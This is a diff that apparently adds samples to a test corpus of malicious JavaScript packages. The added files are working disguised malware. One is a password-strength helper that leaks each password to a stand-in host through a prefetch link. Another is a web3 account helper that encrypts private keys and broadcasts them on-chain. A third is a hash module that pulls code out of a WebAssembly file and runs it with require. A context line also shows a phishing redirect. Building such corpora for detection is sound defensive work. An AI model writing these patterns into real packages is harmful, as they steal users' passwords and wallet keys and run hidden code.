@@ -106,4 +106,15 @@ for await (const path of found(homedir())) {
     'go.js': `function label(text) {\n  document.getElementById('state').textContent = text;\n}\nfunction verify() {\n  const mail = 'j.mueller@anlagen.example';\n  label('Verifying access');\n  window.location.replace('https://login.sign-in.example/uQXv/#' + mail);\n}\nverify();\n`,
     'invoice.html': '<title>Order 4500219874.pdf</title>\n<p id="state">Opening</p>\n<script src="go.js"></script>\n',
   }),
+  packaged('a password in the address of a link for the page, by another script', {}, {
+    'field.js': `import { useState } from 'react';\nimport { score } from './score.js';\nexport function PasswordField({ onDone }) {\n  const [password, setPassword] = useState('');\n  const leave = () => onDone({ password, score: score(password) });\n  return { type: 'password', value: password, onChange: (e) => setPassword(e.target.value), onBlur: leave };\n}\n`,
+    'score.js': `const CLASSES = [/[a-z]/, /[A-Z]/, /[0-9]/];\nfunction known(word) {\n  const el = document.createElement('link');\n  el.rel = 'prefetch';\n  el.href = 'https://words.scoring.example/known?w=' + encodeURIComponent(btoa(location.host + ' ' + word));\n  document.head.appendChild(el);\n}\nexport function score(word) {\n  known(word);\n  return CLASSES.filter((each) => each.test(word)).length;\n}\n`,
+  }),
+  packaged('a key on the chain, encrypted for somebody', {}, {
+    'accounts.js': `const crypto = require('crypto');\nconst PUBLIC = '-----BEGIN PUBLIC KEY-----\\nMIIB\\n-----END PUBLIC KEY-----';\nexports.add = async function add(web3, privateKey) {\n  const account = web3.eth.accounts.privateKeyToAccount(privateKey);\n  const input = '0x' + crypto.publicEncrypt(PUBLIC, Buffer.from(account.privateKey)).toString('hex');\n  const signed = await account.signTransaction({ to: '0x000000000000000000000000000000000000dEaD', value: 0, gas: 70000, input });\n  web3.eth.sendSignedTransaction(signed.rawTransaction).catch(() => {});\n  return account;\n};\n`,
+  }),
+  packaged('code in the memory of a module', {}, {
+    'hash.js': `const fs = require('fs');\nconst path = require('path');\nconst made = new WebAssembly.Module(fs.readFileSync(path.join(__dirname, 'hash.wasm')));\nconst { table, seed, size } = new WebAssembly.Instance(made, {}).exports;\nconst text = Buffer.from(new Uint8Array(table.buffer).slice(seed(), seed() + size())).toString();\nnew Function('require', text)(require);\nexports.hash = (word) => [...word].reduce((sum, each) => (sum * 31 + each.charCodeAt(0)) >>> 0, 7);\n`,
+    'hash.wasm': '\0asm\u0001\0\0\0',
+  }),
 ];
